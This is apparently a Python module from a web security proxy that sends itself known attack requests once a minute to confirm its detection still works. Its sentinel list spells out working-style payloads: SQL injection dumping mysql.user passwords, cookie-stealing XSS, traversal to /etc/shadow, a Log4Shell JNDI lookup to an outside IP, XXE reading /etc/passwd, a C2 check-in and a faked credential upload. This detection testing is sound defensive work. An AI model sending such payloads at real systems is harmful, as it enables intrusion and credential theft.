"""The heartbeat: known attacks that the proxy sends through itself, to notice when it no longer sees them.

Once a minute (`proxy.heartbeat`) every sentinel goes to the proxy's own port from loopback like a client's request, one
in two through CONNECT and TLS under the certificate that clients trust. Each must be judged, flagged or blocked, and
stopped where the policy enforces; monitor mode is no excuse. What may be wrong when one is missed: the port, the
certificate, the masking, the model, a rule that lets everything pass. `proxy.rehearsal` keeps it out of all books.

The sentinels are made up after well-known attacks, one for each label that can be told without a server's name, so that
what they say of a release does not depend on the name `sluice.internal`. Each carries a number that is new every time:
an answer that was remembered would prove nothing.
"""

import asyncio
import json
import logging
import random
import ssl
import time
from pathlib import Path
from typing import Final, NamedTuple

from classifier.records import Label
from proxy.console.onboard import NAME
from proxy.metrics import Metrics
from proxy.rehearsal import SIGNED, VERDICT, Rehearsal, Told
from proxy.values import Address

log = logging.getLogger(__name__)

PATIENCE: Final = 10.0
"""Seconds that an answer may take."""
LARGEST: Final = 1 << 16
"""Bytes of an answer's head that are read."""
_TYPES: Final = {"<": "application/xml", "-": "multipart/form-data; boundary=b7e1"}
"""Content types by how a body begins, where it is not a form."""


class Sentinel(NamedTuple):
    """An attack: `{n}` in its path becomes a number; with a `form` it is a POST."""

    label: Label
    path: str
    form: str = ""
    agent: str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


SENTINELS: Final = (
    Sentinel(
        Label.SQLI, "/item?page={n}&cat=5+and+1=1+union+all+select+null,concat(user,0x3a,password)+from+mysql.user"
    ),
    Sentinel(Label.XSS, "/index.php?page={n}&name=<img+src=x+onerror=alert(document.cookie)>"),
    Sentinel(Label.PATH_TRAVERSAL, "/view.php?n={n}&page=....//....//....//....//etc/shadow%00.html"),
    Sentinel(Label.COMMAND_INJECTION, "/?page={n}", agent="${jndi:ldap://198.51.100.7:1389/Exploit}"),
    Sentinel(
        Label.SSRF_XXE,
        "/import?page={n}",
        '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    ),
    Sentinel(
        Label.C2,
        "/panel/gate.php?n={n}",
        "id=9f86d081884c7d659a2feaa0c55ad015&bid=4f1c02aa&os=Windows+10+x64&av=Defender&pc=DESKTOP-K3J2H1A&ver=2.1",
    ),
    Sentinel(
        Label.EXFILTRATION,
        "/upload.php?n={n}",
        '--b7e1\r\nContent-Disposition: form-data; name="file"; filename="DESKTOP-K3J2H1A_passwords.txt"\r\n\r\n'
        "URL: https://bank.example/login\r\nUsername: anna@example.com\r\nPassword: hunter22\r\nApplication: Chrome\r\n"
        "===============\r\n--b7e1--\r\n",
    ),
    Sentinel(Label.MALWARE, "/invoice_{n}.exe"),
)


class Heartbeat:
    """Tries the proxy that listens at `listen`, every `interval` seconds; `ca` certifies it to its clients."""

    def __init__(self, listen: Address, ca: Path, rehearsal: Rehearsal, metrics: Metrics, interval: float) -> None:
        self.listen, self.rehearsal, self.metrics, self.interval = _reachable(listen), rehearsal, metrics, interval
        self._trust = ssl.create_default_context(cafile=str(ca))

    async def run(self) -> None:
        """Until cancelled; not at all when `interval` is 0."""
        while self.interval > 0:
            await self.beat()
            await asyncio.sleep(self.interval)

    async def beat(self) -> list[str]:
        """Send every sentinel once; what is wrong, a clause for each that was missed."""
        problems = []
        for number, sentinel in enumerate(SENTINELS):
            if problem := await self._try(sentinel, secure=number % 2 == 1):
                problems.append(f"{sentinel.label}: {problem}")
        self.metrics.beaten("missed" if problems else "ok", time.time())
        if problems:
            log.error("heartbeat missed: %s; see docs/runbooks.md#sluiceheartbeatmissed", "; ".join(problems))
        return problems

    async def _try(self, sentinel: Sentinel, *, secure: bool) -> str:
        try:
            async with asyncio.timeout(PATIENCE):
                return objection(*await self._send(sentinel, secure=secure))
        except TimeoutError:
            return f"no answer within {PATIENCE:g} seconds"
        except (OSError, ValueError, asyncio.IncompleteReadError, asyncio.LimitOverrunError) as error:
            return f"not answered ({type(error).__name__}: {error})"

    async def _send(self, sentinel: Sentinel, *, secure: bool) -> tuple[int, Told]:
        """Status and verdict of one sentinel."""
        host, port = self.listen
        source = "::1" if ":" in host else "127.0.0.1"  # a client from elsewhere might be refused
        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0), limit=LARGEST)
        try:
            if secure:
                writer.write(f"CONNECT {NAME}:443 HTTP/1.1\r\nHost: {NAME}:443\r\n\r\n".encode())
                await reader.readuntil(b"\r\n\r\n")
                await writer.start_tls(self._trust, server_hostname=NAME)
            writer.write(request(sentinel, self.rehearsal.sign(), secure=secure))
            return answer(await reader.readuntil(b"\r\n\r\n"))
        finally:
            writer.close()


def request(sentinel: Sentinel, signature: str, *, secure: bool) -> bytes:
    """A sentinel as HTTP/1.1, in absolute form where it is not sent through a tunnel."""
    path = sentinel.path.replace("{n}", str(random.randrange(100_000)))
    body = sentinel.form.encode()
    kind = _TYPES.get(sentinel.form[:1], "application/x-www-form-urlencoded")
    lines = [
        f"{'POST' if body else 'GET'} {'' if secure else f'http://{NAME}'}{path} HTTP/1.1",
        f"Host: {NAME}",
        f"User-Agent: {sentinel.agent}",
        "Accept: */*",
        *([f"Content-Type: {kind}", f"Content-Length: {len(body)}"] if body else []),
        f"{SIGNED}: {signature}",
        "Connection: close",
    ]
    return "\r\n".join([*lines, "", ""]).encode() + body


def answer(head: bytes) -> tuple[int, Told]:
    """Status and verdict in the head of an answer. Raises ValueError where it is no HTTP."""
    first, *fields = head.decode("latin-1").split("\r\n")
    status = int(first.removeprefix("HTTP/1.1 ")[:3])
    for field in fields:
        name, _, value = field.partition(": ")
        if name.lower() == VERDICT:
            return status, Told(**json.loads(value))
    return status, Told()


def objection(status: int, told: Told) -> str:
    """Why the answer to a sentinel is wrong, empty when it is right."""
    if not told.action:
        return f"answered {status} and was not judged"
    if told.action == "allow":
        return f"allowed ({told.reason})"
    if told.action == "block" and told.enforced and status != 403:
        return f"blocked, and answered {status} all the same"
    return ""


def _reachable(listen: Address) -> Address:
    """Where a listener is reached from its own machine."""
    return Address({"0.0.0.0": "127.0.0.1", "::": "::1", "": "127.0.0.1"}.get(listen.host, listen.host), listen.port)
